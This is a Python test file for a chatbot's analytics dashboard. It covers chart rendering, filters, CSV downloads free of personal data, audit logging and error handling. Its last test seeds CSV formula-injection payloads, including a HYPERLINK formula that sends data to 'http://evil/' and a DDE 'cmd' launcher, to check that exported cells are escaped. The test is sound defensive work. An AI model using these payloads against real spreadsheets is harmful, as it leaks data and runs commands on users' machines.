"""The dashboard page and its CSV downloads, over a week of generated traffic rolled up."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, datetime

import pytest
from sqlalchemy import select

from bot.analytics.query import CHARTS
from bot.analytics.rollup import Rollup
from bot.console.store import ConsoleStore
from bot.conversations.models import ConversationRow
from tests.analytics.traffic import generate
from tests.console.conftest import Console

LAST = date(2026, 12, 6)
RANGE = "from=2026-11-30&to=2026-12-06"


@pytest.fixture
def traffic(console: Console) -> Console:
    generate(console.engine, LAST, days=7, per_day=25)
    Rollup(console.engine, clock=lambda: datetime(2026, 12, 7, 3)).pending()
    return console


def test_the_dashboard_shows_the_figures_and_the_charts(traffic: Console) -> None:
    client = traffic.login("supervisor")
    page = client.get(f"/analytics?{RANGE}")
    assert page.status_code == 200
    html = page.text
    assert html.count("<canvas data-chart=") == 7
    data = json.loads(re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', html, re.S)[1])
    assert len(data["periods"]) == 7 and sum(data["volume"]["Cuộc hội thoại"]) > 100
    assert '<script src="/static/chart.umd.min.js" defer></script>' in html
    assert "Tự giải quyết" in html and "Câu hỏi chưa trả lời được" in html
    js = client.get("/static/chart.umd.min.js")
    assert js.status_code == 200 and "Chart" in js.text[:5000]
    assert client.get("/static/dashboard.js").status_code == 200


def test_filters_by_channel_week_and_model(traffic: Console) -> None:
    client = traffic.login("admin")
    whole = client.get(f"/analytics?{RANGE}").text
    zalo = client.get(f"/analytics?{RANGE}&channel=zalo&grain=week").text
    first = re.search(r'class="big">(\d+)</span>', whole)[1]
    only = re.search(r'class="big">(\d+)</span>', zalo)[1]
    assert 0 < int(only) < int(first)
    assert client.get(f"/analytics?{RANGE}&model=20261205-bb22").status_code == 200


@pytest.mark.parametrize("chart", CHARTS)
def test_every_csv_has_numbers_and_no_personal_data(traffic: Console, chart: str) -> None:
    client = traffic.login("supervisor")
    response = client.get(f"/analytics/csv/{chart}?{RANGE}&grain=day")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    body = response.text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows and rows[0]
    with traffic.engine.connect() as conn:
        senders = list(conn.scalars(select(ConversationRow.sender_id)))
    assert senders and not any(s in body for s in senders)
    assert "gen-" not in body
    assert not re.search(r"\b0\d{9}\b", body)


def test_bad_filters_answer_400(traffic: Console) -> None:
    client = traffic.login("supervisor")
    assert client.get("/analytics?from=2026-12-06&to=2026-11-30").status_code == 400
    assert client.get("/analytics?from=hôm-qua").status_code == 400
    assert client.get("/analytics?grain=year").status_code == 400
    assert client.get("/analytics?from=2020-01-01&to=2026-01-01").status_code == 400
    assert client.get(f"/analytics/csv/nothing?{RANGE}").status_code == 404
    assert client.get("/analytics/csv/volume?from=2026-13-01").status_code == 400


def test_a_csv_download_is_audited(traffic: Console) -> None:
    client = traffic.login("supervisor")
    client.get(f"/analytics/csv/volume?{RANGE}")
    audit = ConsoleStore(traffic.engine).audit_log()
    assert any(row.action == "analytics_csv" and row.target == "volume" for row in audit)


def test_a_csv_cell_never_starts_a_formula(console: Console) -> None:
    from bot.analytics.models import UnansweredRow

    with console.engine.begin() as conn:
        conn.execute(UnansweredRow.__table__.insert(), [
            {"day": date(2026, 12, 2), "channel": "zalo", "text": text, "count": 1}
            for text in ('=hyperlink("http://evil/?x="&a1,"click")', "+cmd|' /c calc'!a0", "-1+1", "@sum(a1)")
        ])  # fmt: skip
    client = console.login("admin")
    body = client.get("/analytics/csv/unanswered?from=2026-12-01&to=2026-12-03").text.lstrip("\ufeff")
    cells = [row[0] for row in csv.reader(io.StringIO(body))][1:]
    assert len(cells) == 4 and all(cell.startswith("'") for cell in cells), cells
